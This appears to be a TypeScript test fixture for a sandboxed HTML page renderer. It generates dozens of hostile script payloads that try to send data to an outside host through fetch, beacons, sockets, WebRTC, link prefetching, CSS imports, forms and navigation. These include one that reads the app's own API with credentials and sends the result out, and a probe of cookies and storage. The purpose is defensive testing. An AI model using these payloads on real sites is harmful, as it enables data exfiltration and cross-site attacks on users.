// What a hostile page tries, each as a script of its own. They know the host of
// a stranger's server and the origin of ours.

export interface Attacks {
  /** Those that leave the page where it is: one page tries them all. */
  staying: Record<string, string>;
  /** Those that would lead it elsewhere, or end it: a page for each. */
  leaving: Record<string, string>;
}

export function attacks(host: string, ours: string): Attacks {
  const link = (rel: string, more = "") =>
    `const l = document.createElement("link"); l.rel = "${rel}"; l.href = "http://${host}/${rel}"; ${more} document.head.append(l);`;
  const element = (name: string, attribute: string) =>
    `const e = document.createElement("${name}"); e.${attribute} = "http://${host}/${name}"; document.body.append(e);`;
  const anchor = (target: string, more = "") =>
    `const a = document.createElement("a"); a.href = "http://${host}/a"; a.target = "${target}"; ${more} document.body.append(a); a.click();`;
  const rtc = (servers: string) =>
    `const p = new RTCPeerConnection({ iceServers: [${servers}] }); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o));`;
  const staying = {
    "an image": `new Image().src = "http://${host}/image";`,
    fetch: `fetch("http://${host}/fetch", { mode: "no-cors" });`,
    "our API as an image": `new Image().src = "${ours}/api/me";`,
    XMLHttpRequest: `const x = new XMLHttpRequest(); x.open("POST", "http://${host}/xhr"); x.send("data");`,
    "a beacon": `navigator.sendBeacon("http://${host}/beacon", "data");`,
    "a later fetch": `fetchLater("http://${host}/later", { activateAfter: 0 });`,
    "a socket": `new WebSocket("ws://${host}/socket");`,
    "an event source": `new EventSource("http://${host}/events");`,
    WebTransport: `new WebTransport("https://${host}/transport");`,
    "WebRTC by STUN": rtc(`{ urls: "stun:${host}" }`),
    "WebRTC by TURN": rtc(`{ urls: "turn:${host}?transport=tcp", username: "data", credential: "x" }`),
    "dns-prefetch": link("dns-prefetch"),
    preconnect: link("preconnect"),
    prefetch: link("prefetch"),
    prerender: link("prerender"),
    preload: link("preload", `l.as = "image";`),
    modulepreload: link("modulepreload"),
    "an icon": link("icon"),
    "a manifest": link("manifest"),
    "a stylesheet": link("stylesheet"),
    "speculation rules": `const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: ["http://${host}/rules"], eagerness: "immediate" }] }); document.head.append(s);`,
    "an import of CSS": `const s = document.createElement("style"); s.textContent = "@import url(http://${host}/css); @font-face { font-family: x; src: url(http://${host}/font) } body { font-family: x; background: url(http://${host}/background) }"; document.head.append(s); document.body.append("x");`,
    "a script": element("script", "src"),
    "an import": `import("http://${host}/module.js");`,
    "a worker": `new Worker(URL.createObjectURL(new Blob(["fetch('http://${host}/worker')"])));`,
    "a service worker": `navigator.serviceWorker.register(location.href);`,
    "a frame": element("iframe", "src"),
    "an object": element("object", "data"),
    "an embedded thing": element("embed", "src"),
    "a video": element("video", "src"),
    "a picture in SVG": `document.body.insertAdjacentHTML("beforeend", "<svg><image href='http://${host}/svg'/></svg>");`,
    "a ping": `const a = document.createElement("a"); a.href = "#here"; a.ping = "http://${host}/ping"; document.body.append(a); a.click();`,
    "a report of a violation": `document.head.insertAdjacentHTML("beforeend", "<meta http-equiv='Content-Security-Policy' content=\\"img-src 'none'; report-uri http://${host}/report\\">"); new Image().src = "data:x";`,
  };
  const leaving = {
    "our API": `fetch("${ours}/api/me", { credentials: "include" }).then((r) => r.text()).then((t) => { location = "http://${host}/" + t; });`,
    "WebRTC in a frame of its own": `const f = document.createElement("iframe"); f.srcdoc = "<script>" + ${JSON.stringify(rtc(`{ urls: "stun:${host}" }`))} + "</" + "script>"; document.body.append(f);`,
    "a frame that goes elsewhere": `const f = document.createElement("iframe"); f.srcdoc = "<script>location='http://${host}/frame'</" + "script>"; document.body.append(f);`,
    "a form": `const f = document.createElement("form"); f.method = "POST"; f.action = "http://${host}/form"; document.body.append(f); f.submit();`,
    "a form to us": `const f = document.createElement("form"); f.method = "POST"; f.action = "${ours}/sign-out"; document.body.append(f); f.submit();`,
    "a pop-up": `window.open("http://${host}/popup");`,
    "a link in a new tab": anchor("_blank"),
    "a link in the whole window": anchor("_top"),
    "a download": anchor("", `a.download = "x";`),
    "the whole window": `top.location = "http://${host}/top";`,
    "its parent": `parent.location = "http://${host}/parent";`,
    "its own address": `location = "http://${host}/self";`,
    "a refresh": `document.head.insertAdjacentHTML("beforeend", "<meta http-equiv='refresh' content='0;url=http://${host}/refresh'>");`,
  };
  return { staying, leaving };
}

/** reach tells in the title what of ours a page can read: nothing. */
export const reach = `
  const tried = {
    origin: () => self.origin,
    cookie: () => document.cookie,
    storage: () => localStorage.length,
    database: () => indexedDB.open("x") && "opened",
    caches: () => typeof caches.open,
    parent: () => (parent === self ? "none" : parent.document.title),
    frame: () => String(self.frameElement),
  };
  const found = {};
  for (const [name, look] of Object.entries(tried)) {
    try { found[name] = look(); } catch (error) { found[name] = error.name; }
  }
  document.body.dataset.found = JSON.stringify(found);
`;

/** pageWith is a page that runs these scripts, each whatever became of the others. */
export function pageWith(...scripts: string[]): string {
  const each = scripts.map(
    (script) => `<script>try { ${script} } catch (error) { console.log(String(error)); }</script>`,
  );
  return `<!doctype html><html><head><title>t</title></head><body><p>A report</p>${each.join("\n")}<script>document.body.dataset.ran = "yes";</script></body></html>`;
}
